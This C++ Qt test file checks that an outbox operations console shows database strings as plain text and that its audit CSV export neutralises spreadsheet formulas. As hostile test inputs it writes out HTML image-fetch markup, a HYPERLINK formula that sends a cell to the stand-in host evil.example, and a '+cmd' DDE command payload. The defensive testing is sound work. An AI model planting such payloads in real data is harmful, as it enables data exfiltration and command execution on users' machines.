#include "core/db/DeadLetterStore.h"
#include "core/ops/OperatorActions.h"
#include "tests/support/TestDatabases.h"
#include "tests/support/WidgetFinder.h"
#include "ui/desktop/MainWindow.h"
#include "ui/desktop/audit/AuditPage.h"
#include "ui/desktop/deadletters/DeadLettersPage.h"
#include "ui/desktop/events/EventsPage.h"
#include "ui/desktop/recovery/FindingsModel.h"
#include "ui/desktop/recovery/RecoveryFlow.h"
#include "ui/desktop/recovery/RecoveryPage.h"
#include "ui/desktop/relays/RelaysPage.h"
#include "ui/desktop/widgets/RecordTableModel.h"

#include <QAbstractItemView>
#include <QApplication>
#include <QChartView>
#include <QDialog>
#include <QFile>
#include <QLabel>
#include <QLegendMarker>
#include <QPushButton>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTabBar>
#include <QTabWidget>
#include <QTableView>
#include <QTemporaryDir>
#include <QTest>

using namespace outbox;
using namespace outbox::desktop;
using namespace outbox::test;

namespace {

// What a hostile writer of the outbox tables stores: markup that renders bold text and fetches an
// image wherever a widget takes it for rich text.
const QString Bold = QStringLiteral("<b>B</b>");
const QString Image = QStringLiteral("<img src=file:///tmp/outbox-untrusted.png>");
const QString Markup = Bold + Image;

bool holdsMarkup(const QString& text)
{
    return text.contains(QLatin1String("<b>")) || text.contains(QLatin1String("<img"));
}

// Everything the console shows under `root` that came from the database, checked: a label holding
// markup must be plain text, a tooltip (always rendered as rich text when it looks like HTML) must
// hold no raw markup, nor a chart's title or legend. Counts what held the markup, so that the
// check cannot pass by seeing nothing.
struct Sweep
{
    QStringList problems;
    int labels = 0;
    int cells = 0;
    int legends = 0;

    void visit(QWidget* root)
    {
        QList<QWidget*> all = root->findChildren<QWidget*>();
        all.prepend(root);
        for (QWidget* w : all) {
            if (auto* label = qobject_cast<QLabel*>(w)) {
                if (holdsMarkup(label->text())) {
                    ++labels;
                    if (label->textFormat() != Qt::PlainText)
                        problems << QStringLiteral("label %1 renders \"%2\"")
                                        .arg(label->objectName(), label->text());
                }
            }
            if (holdsMarkup(w->toolTip()))
                problems << QStringLiteral("tooltip of %1: %2").arg(w->objectName(), w->toolTip());
            if (auto* view = qobject_cast<QAbstractItemView*>(w); view && view->model())
                visitModel(view, view->model(), QModelIndex());
            if (auto* chartView = qobject_cast<QChartView*>(w); chartView && chartView->chart()) {
                QChart* chart = chartView->chart();
                if (holdsMarkup(chart->title()))
                    problems << QStringLiteral("chart title %1").arg(chart->title());
                for (QLegendMarker* marker : chart->legend()->markers()) {
                    if (marker->label().contains(QLatin1String("&lt;b&gt;")))
                        ++legends;
                    if (holdsMarkup(marker->label()))
                        problems << QStringLiteral("legend renders %1").arg(marker->label());
                }
            }
        }
    }

    void visitModel(QAbstractItemView* view, QAbstractItemModel* model, const QModelIndex& parent)
    {
        const int rows = qMin(model->rowCount(parent), 50);
        for (int r = 0; r < rows; ++r) {
            for (int c = 0; c < model->columnCount(parent); ++c) {
                const QModelIndex i = model->index(r, c, parent);
                if (holdsMarkup(i.data(Qt::DisplayRole).toString()))
                    ++cells;
                const QString tip = i.data(Qt::ToolTipRole).toString();
                if (holdsMarkup(tip))
                    problems << QStringLiteral("tooltip in %1 (%2,%3): %4")
                                    .arg(view->objectName())
                                    .arg(r)
                                    .arg(c)
                                    .arg(tip);
                if (c == 0 && model->hasChildren(i))
                    visitModel(view, model, i);
            }
        }
    }
};

void selectRow(QTableView* table, int row)
{
    table->selectionModel()->clearSelection();
    QTest::mouseClick(table->viewport(), Qt::LeftButton, {},
                      table->visualRect(table->model()->index(row, 0)).center());
}

void showPage(MainWindow& window, QWidget* page)
{
    QTabBar* tabs = window.pages()->tabBar();
    QTest::mouseClick(tabs, Qt::LeftButton, {}, tabs->tabRect(window.pages()->indexOf(page)).center());
}

} // namespace

// Issue 26: database strings (event types, aggregates, errors, worker ids, actors, reasons, header
// names, finding titles) reach labels, tooltips, tables and charts of the console; none may be
// rendered as rich text. Every text column gets "<b>" and "<img>"; the test clicks through every
// page, a row of each, the inspector, the recovery flow and the dialogs, and sweeps every widget.
class TestUntrustedText : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase()
    {
        QCoreApplication::setOrganizationName(QStringLiteral("OutboxConsoleTest"));
        QStandardPaths::setTestModeEnabled(true);
    }

    void databaseTextIsNeverRichText()
    {
        auto db =
            TestDatabases::fresh(QStringLiteral("sqlite"), TestDatabases::uniqueName(QStringLiteral("rich")));
        const auto ids =
            insertEvents(*db, 4, Markup + QStringLiteral("Created"), Markup + QStringLiteral("-"));
        QVERIFY(db->exec(QStringLiteral("UPDATE {events} SET aggregate_type = :a, topic = :t"),
                         {{QStringLiteral(":a"), Markup}, {QStringLiteral(":t"), Markup}})
                    .ok());
        forceStatus(*db, ids, QStringLiteral("FAILED"),
                    Markup + QStringLiteral(" Broker: Topic authorization failed"));
        DeadLetter letter;
        letter.consumerName = QStringLiteral("inventory") + Bold;
        letter.topic = Markup;
        letter.eventId = Markup;
        letter.headers = QStringLiteral("{\"%1\":\"%2\"}")
                             .arg(QStringLiteral("<b>k</b>"), QStringLiteral("<img src=x>"))
                             .toUtf8();
        letter.payload = QByteArrayLiteral("{\"<b>sku</b>\":\"<img src=x>\"}");
        letter.error = Markup + QStringLiteral(" unknown SKU");
        QVERIFY(DeadLetterStore(*db).insert(letter).ok());
        QVERIFY(db->exec(QStringLiteral("INSERT INTO {relays} (worker_id, host, pid, last_error) "
                                        "VALUES (:w, :h, 7, :e)"),
                         {{QStringLiteral(":w"), QString(QStringLiteral("relay") + Bold)},
                          {QStringLiteral(":h"), Markup},
                          {QStringLiteral(":e"), Markup}})
                    .ok());
        ActionRequest request;
        request.ids = {ids.first()};
        request.reason = Markup + QStringLiteral(" reason");
        request.actor = QStringLiteral("actor") + Bold;
        QVERIFY(OperatorActions(*db).requeue(request).ok());
        forceStatus(*db, {ids.first()}, QStringLiteral("FAILED"),
                    Markup + QStringLiteral(" Broker: Topic authorization failed"));

        MainWindow window;
        window.resize(1400, 900);
        window.show();
        QVERIFY(QTest::qWaitForWindowExposed(&window));
        QVERIFY(window.connectToText(TestDatabases::urlText(db->url())));
        QTRY_VERIFY_WITH_TIMEOUT(window.snapshotsSeen() > 0, 20000);
        Sweep sweep;

        // Events: the table, a row in the inspector, the failure groups, the requeue preview.
        showPage(window, window.events());
        auto* events = child<QTableView>(&window, "eventsTable");
        QTRY_VERIFY_WITH_TIMEOUT(events->model()->rowCount() == 4, 20000);
        selectRow(events, 0);
        QTRY_VERIFY_WITH_TIMEOUT(holdsMarkup(child<QLabel>(&window, "inspectorTitle")->text()), 10000);
        QTest::mouseClick(child<QPushButton>(&window, "refreshGroups"), Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(child<QAbstractItemView>(&window, "failureGroups")->model()->rowCount() > 0,
                                 20000);
        sweep.visit(&window);
        QTest::mouseClick(child<QPushButton>(&window, "requeueButton"), Qt::LeftButton);
        QDialog* action = nullptr;
        QTRY_VERIFY_WITH_TIMEOUT((action = window.findChild<QDialog*>(QStringLiteral("actionDialog"))) &&
                                     action->isVisible(),
                                 10000);
        QTRY_VERIFY_WITH_TIMEOUT(
            child<QAbstractItemView>(action, "actionSampleTable")->model()->rowCount() > 0, 10000);
        sweep.visit(action);
        action->reject();

        // Dead letters: the table, the detail, the edit dialog.
        showPage(window, window.deadLetters());
        auto* dlq = child<QTableView>(&window, "deadLettersTable");
        QTRY_COMPARE_WITH_TIMEOUT(dlq->model()->rowCount(), 1, 10000);
        selectRow(dlq, 0);
        QTest::mouseClick(child<QPushButton>(&window, "editButton"), Qt::LeftButton);
        QDialog* edit = nullptr;
        QTRY_VERIFY_WITH_TIMEOUT(
            (edit = window.findChild<QDialog*>(QStringLiteral("dlqEditDialog"))) && edit->isVisible(), 10000);
        sweep.visit(edit);
        edit->reject();

        // Relays (their last error, the lease holders chart), audit, consumers, overview.
        showPage(window, window.relays());
        QTRY_COMPARE_WITH_TIMEOUT(child<QTableView>(&window, "relaysTable")->model()->rowCount(), 1, 10000);
        showPage(window, window.audit());
        QTest::mouseClick(child<QPushButton>(&window, "auditApply"), Qt::LeftButton);
        auto* audit = child<QTableView>(&window, "auditTable");
        QTRY_VERIFY_WITH_TIMEOUT(audit->model()->rowCount() > 0, 10000);
        selectRow(audit, 0);
        sweep.visit(&window);

        // Recovery: the findings and one opened (title, evidence, causes, samples).
        showPage(window, window.recovery());
        FindingsModel* findings = window.recovery()->model();
        int row = -1;
        QTRY_VERIFY_WITH_TIMEOUT(
            [&]() {
                for (int i = 0; i < findings->rowCount(); ++i)
                    if (holdsMarkup(findings->at(i)->title) ||
                        findings->at(i)->id == QLatin1String("failed-events"))
                        row = i;
                return row >= 0;
            }(),
            20000);
        auto* table = child<QTableView>(&window, "recoveryFindings");
        QTest::mouseClick(table->viewport(), Qt::LeftButton, {},
                          table->visualRect(findings->index(row, FindingsModel::TitleColumn)).center());
        QTRY_VERIFY_WITH_TIMEOUT(!window.recovery()->flow()->finding().id.isEmpty(), 10000);
        sweep.visit(&window);

        QVERIFY2(sweep.problems.isEmpty(), qPrintable(sweep.problems.join(QLatin1Char('\n'))));
        // The sweep saw the markup: in labels (inspector title, finding), in cells of every table.
        QVERIFY2(sweep.labels >= 1, qPrintable(QString::number(sweep.labels)));
        QVERIFY2(sweep.cells >= 10, qPrintable(QString::number(sweep.cells)));
    }

    // Issue 26: the console's audit CSV export (Export CSV…) goes through core's Csv: an actor or
    // reason that is a spreadsheet formula arrives as text ("'=HYPERLINK(…)"), never as a formula.
    void auditCsvExportKeepsFormulasAsText()
    {
        auto db =
            TestDatabases::fresh(QStringLiteral("sqlite"), TestDatabases::uniqueName(QStringLiteral("csv")));
        const auto ids = insertEvents(*db, 2);
        forceStatus(*db, ids, QStringLiteral("FAILED"), QStringLiteral("broker refused"));
        ActionRequest request;
        request.ids = ids;
        request.reason = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        request.actor = QStringLiteral("+cmd|' /C calc'!A0");
        QVERIFY(OperatorActions(*db).requeue(request).ok());

        MainWindow window;
        window.show();
        QVERIFY(QTest::qWaitForWindowExposed(&window));
        QVERIFY(window.connectToText(TestDatabases::urlText(db->url())));
        showPage(window, window.audit());
        QTest::mouseClick(child<QPushButton>(&window, "auditApply"), Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(window.audit()->model()->rowCount(), 1, 10000);
        QTemporaryDir dir;
        QSignalSpy exported(window.audit(), &AuditPage::exported);
        window.audit()->exportTo(dir.filePath(QStringLiteral("audit.csv")), AuditPage::Format::Csv);
        QTRY_COMPARE_WITH_TIMEOUT(exported.count(), 1, 10000);
        QFile csv(dir.filePath(QStringLiteral("audit.csv")));
        QVERIFY(csv.open(QIODevice::ReadOnly));
        const QByteArray text = csv.readAll();
        QVERIFY2(text.startsWith("id,at,actor,host,action,"), text.constData());
        QVERIFY2(text.contains(",'+cmd|' /C calc'!A0,"), text.constData());
        QVERIFY2(text.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","),
                 text.constData());
        // No cell of the file starts a formula: after a separator or a line start, never = + - @.
        for (const char* start : {",=", ",+", ",-", ",@", "\n=", "\n+", "\n-", "\n@", ",\"=", ",\"+", ",\"@"})
            QVERIFY2(!text.contains(start), start);
    }
};

QTEST_MAIN(TestUntrustedText)
#include "tst_untrustedtext.moc"
